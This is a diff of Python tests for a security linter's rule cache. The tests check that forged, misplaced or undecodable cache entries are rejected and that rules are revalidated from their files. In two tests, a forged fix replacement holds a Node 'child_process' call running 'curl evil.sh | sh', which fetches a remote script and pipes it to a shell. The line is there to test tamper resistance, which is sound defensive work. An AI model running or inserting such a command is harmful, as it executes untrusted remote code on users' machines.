@@ -131,12 +131,12 @@ def test_a_fix_template_that_is_not_in_the_rule_file_is_a_miss(
     expected = load_rules([path], bundled=False)
     entry = cache_entry([path])
     assert entry is not None
-    cached = rule_cache.cached_document(validated_cache.read(entry) or b"")[0]
-    cached["rules"][0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
-    _forge(entry, json.dumps(cached).encode(), with_header)
+    document, body = rule_cache.cached_document(validated_cache.read(entry) or b"")
+    document["rules"][0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
+    _forge(entry, rule_cache.cache_payload(document, body), with_header)
     assert load_rules([path], bundled=False) == expected
-    cached["rules"][0]["fix"] = {"template": None, "replacement": 42, "safety": "safe", "description": ""}
-    _forge(entry, json.dumps(cached).encode(), with_header)
+    document["rules"][0]["fix"] = {"template": None, "replacement": 42, "safety": "safe", "description": ""}
+    _forge(entry, rule_cache.cache_payload(document, body), with_header)
     assert load_rules([path], bundled=False) == expected
 
 
@@ -151,9 +151,9 @@ def test_a_process_decodes_an_entry_once_and_a_rewritten_one_again(cache_home: P
     assert [id(r) for r in load_rules([path], bundled=False)] == [id(r) for r in first]
     entry = cache_entry([path])
     assert entry is not None
-    cached = rule_cache.cached_document(validated_cache.read(entry) or b"")[0]
-    cached["rules"][0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
-    _forge(entry, json.dumps(cached).encode(), with_header=True)
+    document, body = rule_cache.cached_document(validated_cache.read(entry) or b"")
+    document["rules"][0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
+    _forge(entry, rule_cache.cache_payload(document, body), with_header=True)
     again = load_rules([path], bundled=False)
     assert again == first
     assert [id(r) for r in again] != [id(r) for r in first]  # validated from the file again
@@ -187,10 +187,70 @@ def test_a_config_entry_of_the_wrong_shape_is_a_miss(cache_home: Path, tmp_path:
 def test_rules_sharing_a_knowledge_item_store_its_narrative_once(cache_home: Path) -> None:
     rules = load_rules()
     (entry,) = cache_home.glob("rules-*.json")
-    payload = rule_cache.cached_document(validated_cache.read(entry) or b"")[0]
-    assert len(payload["rules"]) == len(rules)
-    assert len(payload["narratives"]) == len({(r.description, r.impact, r.remediation) for r in rules})
+    document, laters, _ = rule_cache.spelled_out(validated_cache.read(entry) or b"")
+    assert len(document["rules"]) == len(laters) == len(rules)
+    narratives = {tuple(later["narrative"]) for later in laters}
+    assert len(narratives) == len({(r.description, r.impact, r.remediation) for r in rules})
     assert load_rules() == load_rules(use_cache=False)
+
+
+def test_a_cached_rule_decodes_its_span_when_first_used(cache_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """What choosing rules and files reads comes from the index; the matcher options, examples,
+    fix and narrative are decoded when one of them is first read, from the span (never from
+    the rule files: the validating code fails here), and equal the validated rule's."""
+    from secure_lint.rules import loader
+
+    fresh = {rule.id: rule for rule in load_rules(use_cache=False)}
+    load_rules()  # validates and writes the cache
+    rule_cache.forget_decoded()
+    monkeypatch.setattr(loader, "_load_files", _no_validation)
+    rules = load_rules()
+    assert [(r.id, r.languages, r.keywords, r.severity, r.paths) for r in rules] == [
+        (r.id, r.languages, r.keywords, r.severity, r.paths) for r in fresh.values()
+    ]
+    assert [r.matcher_kind for r in rules] == [r.match.kind for r in fresh.values()]
+    assert all("_decoder" in vars(rule) for rule in rules)  # nothing decoded yet
+    first, second = rules[0], rules[1]
+    assert first.match == fresh[first.id].match
+    assert "_decoder" not in vars(first) and "_decoder" in vars(second)  # the one used, alone
+    assert first == fresh[first.id] and fresh[first.id] == first
+    assert rules == list(fresh.values())
+
+
+def _no_validation(files: list[Path]) -> list[object]:
+    raise AssertionError("validated the rule files")
+
+
+@pytest.mark.parametrize("damage", ["another rule's span", "not json", "outside the body", "unknown option"])
+def test_a_span_that_does_not_decode_to_its_rule_is_a_miss(cache_home: Path, tmp_path: Path, damage: str) -> None:
+    """A rule whose span is not its own, or does not decode, is the rule validated from the rule
+    files when it is first used; the entry is then written anew."""
+    path = tmp_path / "acme.yaml"
+    path.write_text(RULE_FILE.format(what="request data") + RULE_FILE.format(what="x")[7:].replace(".eval", ".eval2"))
+    expected = load_rules([path], bundled=False)
+    entry = cache_entry([path])
+    assert entry is not None and len(expected) == 2
+    payload = validated_cache.read(entry) or b""
+    document, laters, body = rule_cache.spelled_out(payload)
+    if damage == "unknown option":
+        laters[0]["match"]["options"]["surprise"] = True
+    forged = rule_cache.rewritten(document, laters, body)
+    forged_document, forged_body = rule_cache.cached_document(forged)
+    spans = [rule["later"] for rule in forged_document["rules"]]
+    if damage == "another rule's span":
+        forged_document["rules"][0]["later"] = spans[1]
+    elif damage == "not json":
+        forged_body = forged_body[: spans[0][0]] + b"{" * (spans[0][1] - spans[0][0]) + forged_body[spans[0][1] :]
+    elif damage == "outside the body":
+        forged_document["rules"][0]["later"] = [spans[0][0], len(forged_body) + 1]
+    _forge(entry, rule_cache.cache_payload(forged_document, forged_body), with_header=True)
+    rule_cache.forget_decoded()
+    rules = load_rules([path], bundled=False)
+    assert rules[0] == expected[0]
+    if damage != "outside the body":  # that one is the index's: the whole entry is a miss at once
+        assert "_decoder" in vars(rules[1])  # the other rule's span was not read
+    assert rules == expected
+    assert validated_cache.read(entry) == payload  # written anew
 
 
 def test_structural_plans_come_from_the_cache_as_they_were_built(cache_home: Path) -> None:
@@ -210,18 +270,18 @@ def test_structural_plans_come_from_the_cache_as_they_were_built(cache_home: Pat
 
 def test_plans_are_kept_after_the_document_and_a_misplaced_one_is_a_miss(cache_home: Path) -> None:
     """The plans follow the JSON document (a NUL between), each rule naming its own span: no plan
-    text is escaped inside the document. A span outside the plans makes the entry a miss."""
+    text is escaped inside the document. A misplaced plan makes its rule a miss."""
     expected = load_rules()
     (entry,) = cache_home.glob("rules-*.json")
     payload = validated_cache.read(entry) or b""
-    document, plans = rule_cache.cached_document(payload)
-    spans = [rule["plan"] for rule in document["rules"] if "plan" in rule]
-    assert spans and all(isinstance(rule.get("plan", []), list) for rule in document["rules"])
-    assert sorted(spans) == spans and spans[-1][1] == len(plans)  # one after another, all of them
-    first = next(rule for rule in document["rules"] if "plan" in rule)
-    for misplaced in ([0, len(plans) + 1], [5, 2], ["0", 2], 7):
+    document, laters, body = rule_cache.spelled_out(payload)
+    spans = [later["plan"] for later in laters if "plan" in later]
+    assert spans and all(isinstance(later.get("plan", []), list) for later in laters)
+    assert sorted(spans) == spans and all(end <= len(body) for _, end in spans)
+    first = next(later for later in laters if "plan" in later)
+    for misplaced in ([0, 2 * len(payload)], [5, 2], ["0", 2], 7):
         first["plan"] = misplaced
-        _forge(entry, rule_cache.cache_payload(document, plans), with_header=True)
+        _forge(entry, rule_cache.rewritten(json.loads(json.dumps(document)), laters, body), with_header=True)
         rule_cache.forget_decoded()
         assert load_rules() == expected
         assert validated_cache.read(entry) == payload  # validated again, and written as before
